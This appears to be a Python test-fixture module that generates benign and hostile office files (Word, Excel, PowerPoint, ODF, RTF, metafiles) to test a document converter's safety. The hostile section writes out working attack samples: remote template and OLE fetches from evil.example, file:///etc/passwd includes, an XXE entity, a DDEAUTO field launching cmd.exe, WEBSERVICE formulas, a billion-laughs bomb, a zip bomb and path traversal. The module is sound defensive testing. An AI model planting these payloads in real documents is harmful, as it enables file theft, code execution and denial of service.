"""Office documents of every kind that an office sends, and what attackers make of them."""
import io
import os
import shutil
import struct
import subprocess
import tempfile
import zipfile

import containers
import documents as doc
import office as o
import table
from table import document

CJK = "第一回会議資料と海岸監測資料"
RTF_HEAD = "{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0 Liberation Serif;}}\\f0 "


def changed(package, name, old, new):
    """The same package with one member edited."""
    z = zipfile.ZipFile(io.BytesIO(package))
    return o.package([(n, z.read(n).replace(old, new) if n == name else z.read(n)) for n in z.namelist()])


def main_type(package, old, new):
    return changed(package, "[Content_Types].xml", old.encode(), new.encode())


def good(name, data, pages, words, **more):
    document(name, data, "images", pages=pages, words=words, kind="office", **more)


def word():
    letter = o.docx(["Dear Ms \u6797", "we confirm.", "\fOn the second page."])
    good("letter-two.docx", letter, 2, ("we confirm.", "On the second page."), facts="!macros")
    good("short.docx", o.docx(["One line"]), 1, "One line")
    good("cjk.docx", o.docx([CJK, "회의 자료", "会议纪要"]), 1, (CJK, "회의 자료", "会议纪要"))
    good("arabic.docx", o.docx(["تقرير الاجتماع", "דוח פגישה"]), 1, ())
    good("indic.docx", o.docx(["बैठक की रिपोर्ट", "รายงานการประชุม"]), 1, ("बैठक की", "รายงานการประชุม"))
    good("ten-pages.docx", o.docx(["first"] + ["\fpage %d" % i for i in range(2, 11)]), 10, "page 10")
    good("links-docx.docx", o.docx(["Words"], links=[("our bank", "https://evil.example/login")]), 1,
         "hxxps[:]//evil[.]example/login", facts="links=1", lacks="https://evil")
    good("comments.docx", o.docx(["Words"], comment="aside"), 1, "Words", facts="comments=1")
    good("changes.docx", o.docx(["Words"], changed="put in"), 1, "put in", facts="tracked-changes=1")
    good("macros.docm", o.docx(["Words beside macros"], macros=True), 1, "Words beside macros", facts="macros=yes")
    good("template.dotx", main_type(letter, "document.main", "template.main"), 2, "we confirm.")
    good("empty-body.docx", o.docx([""]), 1, ())
    good("open.odt", o.odt(["An open text", CJK]), 1, ("An open text", CJK))
    good("noted.odt", o.odt(["Text"], comment="aside", link="http://evil.example/"), 1, "Text",
         facts=("comments=1", "links=1"), lacks="http://evil")
    good("template-text.ott", o.odf("text-template", "<office:text><text:p>A template</text:p>"
         "</office:text>"), 1, "A template")
    flat = (o.XML + '<office:document %s office:mimetype="application/vnd.oasis.opendocument.text"><office:body>'
            "<office:text><text:p>All in one file</text:p></office:text></office:body></office:document>" % o.ODF)
    document("flat.fodt", flat.encode(), "images|text", words="All in one file")
    good("note.rtf", o.rtf(["Gr\u00fc\u00dfe \u6771\u4eac"]), 1, "Grüße 東京")
    good("two-pages.rtf", o.rtf(["First"], "\\page Second"), 2, ("First", "Second"))
    good("codepage-rtf.rtf", b"{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fcharset128 MS Mincho;}}\\f0 "
         b"\\'8e\\'91\\'97\\'bf\\par}", 1, "資料")
    good("table.rtf", (RTF_HEAD + "\\trowd\\cellx2000\\cellx4000\\intbl left\\cell right\\cell\\row\\pard after\\par}").encode(),
         1, ("left", "right", "after"))


def sheets():
    sums = o.xlsx([("Open", "visible", [["item", "price"], ["pen", 3], ["sum", "=SUM(B2:B2)*2|6"]]),
                   ("Secret", "veryHidden", [["behind the curtain"]])])
    good("sums.xlsx", sums, 1, ("pen\t3", "sum\t6", "[Sheet 2: Secret (hidden)]"), facts="hidden-sheets=1", lacks="SUM(")
    good("wide.xlsx", o.xlsx([("Wide", "visible", [["a wide column %d" % c for c in range(30)] for _ in range(20)])]), 1,
         "a wide column 29")
    good("cjk-sheet.xlsx", o.xlsx([("資料", "visible", [["項目", "数量"], ["鉛筆", 12]])]), 1, ("鉛筆\t12", "資料"))
    good("three.xlsx", o.xlsx([("S%d" % i, "visible", [["sheet words %d" % i]]) for i in range(3)]), 3, "sheet words 2")
    good("numbers.xlsx", o.xlsx([("N", "visible", [[i * 1.5 for i in range(5)] for _ in range(5)])]), 1, "1.5\t3")
    good("errors.xlsx", o.xlsx([("E", "visible", [["=1/0|#DIV/0!", "=NA()|#N/A", "end"]])]), 1, "end")
    book = "sheet.main+xml"
    good("macros-sheet.xlsm", main_type(o.xlsx([("M", "visible", [["beside macros"]])]),
         o.OFFICE + "spreadsheet" + "ml." + book, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), 1, "beside macros")
    good("template-sheet.xltx", main_type(o.xlsx([("T", "visible", [["a form"]])]),
         "spreadsheetml.sheet.main", "spreadsheetml.template.main"), 1, "a form")
    good("sheet.ods", o.ods([("Shown", True, [["a", "b"], ["c", "d"]]), ("Off", False, [["gone"]])]), 1, "a\tb",
         facts="hidden-sheets=1")
    good("two.ods", o.ods([("One", True, [["erste"]]), ("Two", True, [["zweite"]])]), 2, ("erste", "zweite"))
    good("template-ods.ots", o.odf("spreadsheet-template", '<office:spreadsheet><table:table '
         'table:name="T"><table:table-row><table:table-cell><text:p>a cell</text:p></table:table-cell></table:table-row>'
         "</table:table></office:spreadsheet>"), 1, "a cell")
    good("grid.slk", b"ID;PWXL;N;E\r\nC;Y1;X1;K\"left\"\r\nC;Y1;X2;K42\r\nE\r\n", 1, ("left", "42"))
    document("commas.csv", "名前,数,備考\r\nペン,3,文房具として使用します\r\nノート,5,会議の記録に使用します\r\n".encode("cp932"), "text|images", words=("ペン", "名前"))
    document("tabs.tsv", b"a\tb\r\n1\t2\r\n", "text|images", words="a")
    record = struct.pack("<HH", 0x0809, 8) + struct.pack("<HHHH", 0x0500, 0x10, 0, 0)
    for row, words in enumerate((b"biff words", b"second row")):
        record += struct.pack("<HHHHHH", 0x0204, 8 + len(words), row, 0, 0, len(words)) + words
    good("old-biff.xls", record + struct.pack("<HH", 0x0a, 0), 1, ("biff words", "second row"))


def slides():
    talk = o.pptx(["First", "\u7b2c\u4e8c\u5f35", "Third"])
    good("talk.pptx", talk, 3, ("First", "第二張", "Third"))
    good("one-slide.pptx", o.pptx(["Alone"]), 1, "Alone")
    good("thirty.pptx", o.pptx(["Slide %d" % i for i in range(30)]), 30, "Slide 29")
    deck = "presentationml.presentation.main"
    good("show.ppsx", main_type(talk, deck, "presentationml.slideshow.main"), 3, "第二張")
    good("template-deck.potx", main_type(talk, deck, "presentationml.template.main"), 3, "Third")
    good("macros-deck.pptm", main_type(talk, o.OFFICE + deck,
         "application/vnd.ms-powerpoint.presentation.macroEnabled.main"), 3, "First")
    names = ('xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
             'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"')

    def page(words):
        return ('<draw:page %s draw:name="%s"><draw:frame svg:x="2cm" svg:y="2cm" svg:width="15cm" svg:height="3cm">'
                "<draw:text-box><text:p>%s</text:p></draw:text-box></draw:frame></draw:page>" % (names, words, words))

    for kind, name, body in (("presentation", "open-deck.odp", "presentation"), ("presentation-template", "template-odp.otp", "presentation"),
                             ("graphics", "drawing.odg", "drawing"), ("graphics-template", "template-odg.otg", "drawing")):
        good(name, o.odf(kind, "<office:%s>%s%s</office:%s>" % (
            body, page("Blatt eins"), page("Blatt zwei"), body)), 2, ("Blatt eins", "Blatt zwei"))


def drawings():
    """Metafiles of Windows: a rectangle each."""
    def record(code, *words):
        return struct.pack("<IH", 3 + len(words), code) + b"".join(struct.pack("<h", w) for w in words)

    body = record(0x20b, 0, 0) + record(0x20c, 500, 500) + record(0x41b, 400, 400, 50, 50) + record(0)
    plain = struct.pack("<HHHIHIH", 1, 9, 0x300, 9 + len(body) // 2, 0, 7, 0) + body
    place = struct.pack("<IHhhhhHI", 0x9ac6cdd7, 0, 0, 0, 500, 500, 1440, 0)
    check = 0
    for word in struct.unpack("<10H", place):
        check ^= word
    good("placeable.wmf", place + struct.pack("<H", check) + plain, 1, ())
    rectangle = struct.pack("<IIiiii", 43, 24, 10, 10, 200, 100)
    end = struct.pack("<IIIII", 14, 20, 0, 16, 20)
    size = 88 + len(rectangle) + len(end)
    head = struct.pack("<IIiiiiiiiiIIIIHHIIIIIII", 1, 88, 0, 0, 300, 200, 0, 0, 8000, 5000, 0x464d4520, 0x10000, size, 3, 1, 0, 0,
                       0, 0, 1024, 768, 320, 240)
    good("enhanced.emf", head + rectangle + end, 1, ())


def by_libreoffice():
    """The old binary formats, written by LibreOffice itself from documents made here."""
    if shutil.which("soffice") is None:
        return
    plans = (("doc", "docx", {"old-letter": (o.docx(["Old letter", "\fSecond page"]), 2, ("Old letter", "Second page")),
                              "old-cjk": (o.docx([CJK]), 1, CJK),
                              "old-links": (o.docx(["x"], links=[("here", "http://evil.example/doc")]), 1,
                                            "hxxp[:]//evil[.]example/doc")}),
             ("xls", "xlsx", {"old-sums": (o.xlsx([("Open", "visible", [["pen", 3], ["sum", "=B1*2|6"]]),
                                                   ("Off", "hidden", [["unseen"]])]), 1, ("pen\t3", "sum\t6")),
                              "old-three": (o.xlsx([("S%d" % i, "visible", [["words %d" % i]]) for i in range(3)]), 3, "words 2")}),
             ("ppt", "pptx", {"old-talk": (o.pptx(["Erstens", "第二張"]), 2, ("Erstens", "第二張"))}))
    with tempfile.TemporaryDirectory() as folder:
        for to, source, items in plans:
            for name, (data, _, _) in items.items():
                with open(os.path.join(folder, name + "." + source), "wb") as f:
                    f.write(data)
            subprocess.run(["soffice", "-env:UserInstallation=file://%s/profile" % folder, "--headless", "--convert-to", to,
                            "--outdir", folder] + [os.path.join(folder, n + "." + source) for n in items],
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=True, timeout=120)
            for name, (_, pages, words) in items.items():
                with open(os.path.join(folder, name + "." + to), "rb") as f:
                    data = f.read()
                good(name + "." + to, data, pages, words)
                if name in ("old-letter", "old-sums", "old-talk"):
                    with table.hostile_samples():
                        broken(name + "-" + to, to, data)


def broken(stem, form, data):
    """Cut short, and with every so many bytes turned over."""
    for part in (1, 2, 3):
        cut(stem + "-cut-%d.%s" % (part, form), data[:len(data) * part // 4])
    turned = bytearray(data)
    for i in range(60, len(turned), 211):
        turned[i] ^= 0xff
    cut(stem + "-turned.%s" % form, bytes(turned))


def cut(name, data):
    document(name, data, "images|text|stub|container", "*")


def with_external(kind, target):
    """A document that fetches its template, picture or frame from elsewhere."""
    return changed(o.docx(["Words"]), "word/_rels/document.xml.rels", b"</Relationships>", (
        '<Relationship Id="rId90" Type="%s/%s" Target="%s" TargetMode="External"/></Relationships>' % (o.REL, kind, target)).encode())


def hostile():
    for kind, target in (("attachedTemplate", "http://evil.example/t.dotm"), ("image", "file:///etc/passwd"),
                         ("frame", "\\\\evil.example\\share\\x"), ("oleObject", "http://evil.example/o.bin")):
        document("fetch-%s.docx" % kind.lower(), with_external(kind, target), "images", facts="external-links=1",
                 lacks=("http://evil", "root:x:"))
    document("fetch-field.docx", o.docx(["Words"], field=' INCLUDETEXT "file:///etc/passwd" '), "images", lacks="root:x:")
    document("dde.docx", o.docx(["Words"], field=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "images", words="Words")
    document("webservice.xlsx", o.xlsx([("W", "visible", [['=WEBSERVICE("http://evil.example/")|0', "=HYPERLINK("
             '"http://evil.example/","go")|go']])]), "images", lacks="http://evil")
    document("file-cell.ods", o.odf("spreadsheet", '<office:spreadsheet><table:table table:name="T"><table:table-row>'
             "<table:table-cell table:formula=\"of:=['file:///etc/passwd'#$Sheet1.A1]\" office:value-type=\"string\"><text:p>x"
             "</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"), "images|stub|text", "*",
             lacks="root:x:")
    document("picture-file.odt", o.odf("text", '<office:text><text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:'
             'xmlns:drawing:1.0"><draw:image xlink:href="file:///etc/passwd"/></draw:frame>Words</text:p></office:text>'),
             "images", words="Words", lacks="root:x:")
    document("section-file.odt", o.odf("text", '<office:text><text:section text:name="s"><text:section-source xlink:href='
             '"file:///etc/passwd" text:filter-name="Text"/><text:p>Words</text:p></text:section></office:text>'),
             "images", lacks="root:x:")
    document("event-odt.odt", o.odf("text", '<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:'
             'oasis:names:tc:opendocument:xmlns:script:1.0" script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
             'a.py$b?language=Python&amp;location=share"/></office:event-listeners></office:scripts><office:text><text:p>Words'
             "</text:p></office:text>"), "images|text", "*", words="Words")
    laughs = "<!DOCTYPE x [<!ENTITY a0 \"ha\">" + "".join(
        '<!ENTITY a%d "%s">' % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 10)) + "]>"
    for name, make, member in (("laughs.docx", o.docx(["Words"]), "word/document.xml"),
                               ("laughs-odt.odt", o.odt(["Words"]), "content.xml")):
        z = zipfile.ZipFile(io.BytesIO(make))
        body = z.read(member).decode().replace("?>\n", "?>\n" + laughs, 1).replace("Words", "Words &a9;")
        document(name, o.package([(n, body if n == member else z.read(n)) for n in z.namelist()]), "images|text|stub", "*")
    entity = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    z = zipfile.ZipFile(io.BytesIO(o.docx(["Words"])))
    body = z.read("word/document.xml").decode().replace("?>\n", "?>\n" + entity, 1).replace("Words", "Words &f;")
    document("entity-file.docx", o.package([(n, body if n == "word/document.xml" else z.read(n)) for n in z.namelist()]),
             "images|text|stub", "*", lacks="root:x:")
    plain = o.docx(["Words"])
    document("deep-xml.docx", changed(plain, "word/document.xml", b"</w:body>", b"<w:p>" * 20000 + b"</w:body>"),
             "images|text|stub", "*")
    document("bomb-member.docx", changed(plain, "word/styles.xml", b"</w:styles>", b" " * (80 << 20) + b"</w:styles>"),
             "images|text|stub", "*")
    document("no-body.docx", changed(plain, "word/document.xml", b"body>", b"bodX>"), "images|text|stub", "*")
    document("unclosed.docx", changed(plain, "word/document.xml", b"</w:body>", b"<w:p><</w:body>"), "text", "format",
             words="Words")
    document("no-types.docx", changed(plain, "[Content_Types].xml", b"Types", b"Typos"), "images|text|stub", "*")
    document("cell-far.xlsx", changed(o.xlsx([("F", "visible", [["here"]])]), "xl/worksheets/sheet1.xml", b"</sheetData>",
             b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'), "images|text|stub", "*")
    document("million-rows.xlsx", changed(o.xlsx([("F", "visible", [["here"]])]), "xl/worksheets/sheet1.xml", b"</sheetData>",
             b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(2, 120000)) + b"</sheetData>"),
             "images|text|stub", "*")
    document("shared-lies.xlsx", changed(o.xlsx([("F", "visible", [[7]])]), "xl/worksheets/sheet1.xml", b'<c r="A1">',
             b'<c r="A1" t="s">'), "images|text|stub", "*")
    document("sheet-missing.xlsx", changed(o.xlsx([("F", "visible", [["x"]])]), "xl/_rels/workbook.xml.rels", b"sheet1.xml",
             b"../../../etc/passwd"), "images|text|stub", "*", lacks="root:x:")
    document("slide-loop.pptx", changed(o.pptx(["a"]), "ppt/slideLayouts/_rels/slideLayout1.xml.rels", b"../slideMasters/"
             b"slideMaster1.xml", b"../slideLayouts/slideLayout1.xml"), "images|text|stub", "*")
    document("huge-slide.pptx", changed(o.pptx(["a"]), "ppt/presentation.xml", b'cx="9144000" cy="6858000"',
             b'cx="2147483647" cy="2147483647"'), "images|text|stub", "*")
    document("locked.docx", containers.ole({"EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>",
                                            "EncryptedPackage": bytes(5000)}), "stub", "encrypted")
    document("basic.odt", o.odt(["Words"], more=[("Basic/Standard/Module1.xml", "<x/>"), ("Basic/script-lc.xml", "<x/>")]),
             "images", words="Words", facts="macros=yes")
    document("object.docm", o.docx(["Words"], macros=True, more=[("word/embeddings/oleObject1.bin", b"an object")]), "images",
             facts=("macros=yes", "embedded=1"))
    document("program-in.docx", o.docx(["Words"], more=[("word/embeddings/a.exe", b"MZ" + bytes(200))]), "images", facts="embedded")
    for name, inside in (("object", "{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + "01050000" * 200 + "}}"),
                         ("template", "{\\*\\template http://evil.example/t.dotm}"),
                         ("include", '{\\field{\\*\\fldinst INCLUDEPICTURE "file:///etc/passwd"}{\\fldrslt x}}'),
                         ("picture", "{\\pict\\pngblip\\picw100\\pich100\\picwgoal2147483647\\pichgoal1 89504e47}"),
                         ("bin", "{\\pict\\wmetafile8\\bin2147483647 abc}"), ("font", "\\f99999999\\fs2147483647 big"),
                         ("unicode", "\\uc65535\\u-1?\\u99999?"), ("table", "\\trowd" + "\\cellx10" * 3000 + "\\row")):
        document("rtf-%s.rtf" % name, (RTF_HEAD + "Words " + inside + " after\\par}").encode(), "images|text|stub", "*",
                 lacks=("root:x:", "http://evil"))
    document("rtf-deep.rtf", (RTF_HEAD + "{" * 50000 + "Words").encode(), "images|text|stub", "*")
    document("rtf-open.rtf", (RTF_HEAD + "Words that end nowhere").encode(), "images|text", "*", words="Words")
    document("rtf-named.doc", o.rtf(["Words in RTF"]), "images", words="Words in RTF", kind="office")
    document("docx-named.pdf", o.docx(["Words in DOCX"]), "images", words="Words in DOCX", kind="office")
    document("zip-named.docx", containers.zip_file([(b"a.txt", b"plain words\n")]), "container")
    document("page-named.doc", b"<html><body><p>Words in HTML</p></body></html>", "text|images", words="Words in HTML")
    document("xml-named.xls", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-'
             b'microsoft-com:office:spreadsheet"><Worksheet ss:Name="S" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
             b"<Table><Row><Cell><Data ss:Type=\"String\">xml cell</Data></Cell></Row></Table></Worksheet></Workbook>",
             "images|text", "*", words="xml cell")
    whole = o.docx(["Words"] * 30)
    for part in (1, 2, 3):
        cut("cut-docx-%d.docx" % part, whole[:len(whole) * part // 4])
    broken("sums-xlsx", "xlsx", o.xlsx([("A", "visible", [["cell %d" % i] for i in range(50)])]))
    broken("talk-pptx", "pptx", o.pptx(["First", "Second"]))
    broken("open-odt", "odt", o.odt(["Words"] * 50))
    cut("ole-empty.doc", containers.ole({"WordDocument": bytes(2000)}))
    cut("ole-loop.xls", loop_ole())
    # no file of its kind: LibreOffice would ask how to read it as text, and wait for an answer
    sheet = bytearray(containers.ole({"Workbook": struct.pack("<HHHHII", 0x809, 8, 0x600, 5, 0, 0) + bytes(9000)}))
    for name, at, value in (("version", 0x1a, b"\xff\xff"), ("shift", 0x1e, b"\x1f\0"), ("count", 0x2c, b"\xff\xff\xff\x7f")):
        document("ole-%s.xls" % name, bytes(sheet[:at] + value + sheet[at + len(value):]), "stub", "format")
    cut("ole-book.xls", containers.ole({"Workbook": struct.pack("<HHHHII", 0x809, 8, 0x600, 5, 0, 0) + b"\xfc\0\xff\xff" * 100}))
    cut("ole-deck.ppt", containers.ole({"PowerPoint Document": b"\x0f\0\xe8\3\xff\xff\xff\x7f" * 50, "Current User": bytes(50)}))
    document("picture-bomb.docx", with_picture(doc.png(4, 4, [bytes(12)] * 4).replace(
        b"\0\0\0\4\0\0\0\4", b"\0\0\xff\xff\0\0\xff\xff", 1)), "images|text|stub", "*")


def with_picture(png):
    return o.docx(["Words"], more=[("word/media/image1.png", png)])


def loop_ole():
    """A file whose table of sectors runs in a circle."""
    data = bytearray(containers.ole({"Workbook": bytes(9000)}))
    fat = data.index(struct.pack("<III", 1, 2, 3))
    data[fat:fat + 4] = struct.pack("<I", 0)
    return bytes(data)


def samples():
    word()
    sheets()
    slides()
    drawings()
    by_libreoffice()
    with table.hostile_samples():
        hostile()
